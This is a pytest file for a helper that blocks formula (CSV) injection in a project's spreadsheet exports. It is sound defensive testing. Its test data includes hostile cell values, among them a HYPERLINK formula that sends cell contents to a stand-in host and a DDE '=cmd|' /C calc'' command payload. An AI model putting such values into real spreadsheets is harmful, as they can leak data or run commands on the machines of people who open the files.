"""core.spreadsheet: the one helper that neutralizes formulas for every XLSX and CSV writer."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from xaydungdang.core.spreadsheet import csv_writer, formula_like, guard, safe_cell, safe_row, unguard

DANGEROUS = [
    '=HYPERLINK("http://x"&A1,"y")',
    "=1",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\t",
    "\rabc",
    "＝1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1",
    "﹢1",
    "﹣1",
    "﹫a",
    "=cmd|' /C calc'!A0",
    " =1",
    "  +1",
    "\n=1",
    "\u00a0=1",
    "\u3000=1",
    " \t@x",
    "-",
    "+84 912 345 678",
]
HARMLESS = [
    "",
    "Nguyễn Văn An",
    "Chi bộ ấp Một",
    "2023-01-05",
    "12/05/2024",
    "1=1",
    "a-b",
    "'plain",
    "' ",
    "'",
    "   ",
    "ĐẢNG BỘ",
    "Số 12-QĐ/ĐU",
    "a@b.vn",
    "(=1)",
    "“=1”",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_every_dangerous_start_is_guarded(text):
    assert formula_like(text)
    assert safe_cell(text) == "'" + text
    assert unguard(safe_cell(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_unchanged(text):
    assert not formula_like(text)
    assert safe_cell(text) == text


@pytest.mark.parametrize(
    "value",
    [
        0,
        5,
        -5,
        -2,
        3.5,
        -0.25,
        Decimal("-1.50"),
        True,
        False,
        None,
        dt.date(2023, 1, 5),
        dt.datetime(2024, 5, 1, 8, 30),
        dt.time(9, 15),
    ],
)
def test_numbers_dates_booleans_pass_through(value):
    assert safe_cell(value) is value


def test_guard_and_unguard_are_inverse():
    """What the interchange format relies on: import(export(t)) == t, whatever t is."""
    for text in DANGEROUS + HARMLESS + ["'=1", "''=1", "'''+x", "' =1", "'＝1", "'\t"]:
        assert unguard(guard(text)) == text
        assert formula_like("'" + text) == formula_like(text)
    assert guard("'=1") == "''=1" and unguard("'=1") == "=1" and unguard("''=1") == "'=1"
    assert unguard("'abc") == "'abc"


def test_control_characters_are_removed_then_checked():
    assert safe_cell("An\x00\x01 Bình\x1f") == "An Bình"
    assert safe_cell("\x00=1") == "'=1"
    assert safe_cell("dòng 1\ndòng 2\tcột") == "dòng 1\ndòng 2\tcột"


def test_other_objects_become_guarded_text():
    class Named:
        def __str__(self):
            return "=2+2"

    assert safe_cell(Named()) == "'=2+2"
    assert safe_row(["=1", -1, None, "ok"]) == ["'=1", -1, None, "ok"]


def test_csv_writer_guards_every_field():
    out = io.StringIO()
    writer = csv_writer(out, lineterminator="\n")
    writer.writerow(["=1", "-2+3", -5, dt.date(2024, 1, 2), "ok"])
    writer.writerows([["@a"], ["＝b"]])
    assert out.getvalue() == "'=1,'-2+3,-5,2024-01-02,ok\n'@a\n'＝b\n"


@pytest.mark.parametrize("terminator", ["\n", "\r\n"])
def test_csv_writer_quotes_line_breaks_of_either_kind(terminator):
    """With lineterminator "\n", csv.writer left a bare CR unquoted: readers split the row there
    and "x\r=1" turned into a line starting with a live "=1"."""
    out = io.StringIO(newline="")
    writer = csv_writer(out, lineterminator=terminator)
    writer.writerow(["a", "x\r=1", "dòng 1\ndòng 2", "y"])
    writer.writerow(["b", "plain"])
    assert out.getvalue() == f'a,"x\r=1","dòng 1\ndòng 2",y{terminator}b,plain{terminator}'
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows == [["a", "x\r=1", "dòng 1\ndòng 2", "y"], ["b", "plain"]]


def test_csv_writer_returns_what_the_handle_returns():
    class Echo:
        def write(self, value):
            return value

    assert csv_writer(Echo()).writerow(["=1", 2]) == "'=1,2\r\n"


def test_xlsx_cells_are_strings_numbers_and_dates():
    book = Workbook()
    sheet = book.active
    sheet.append(safe_row(['=HYPERLINK("http://x"&A1,"y")', -5, dt.date(2024, 1, 2), "\t=1", 2.5, True]))
    buffer = io.BytesIO()
    book.save(buffer)
    cells = load_workbook(io.BytesIO(buffer.getvalue()))[sheet.title][1]
    assert [c.data_type for c in cells] == ["s", "n", "d", "s", "n", "b"]
    assert cells[0].value == '\'=HYPERLINK("http://x"&A1,"y")' and cells[1].value == -5
    assert cells[2].value.date() == dt.date(2024, 1, 2)
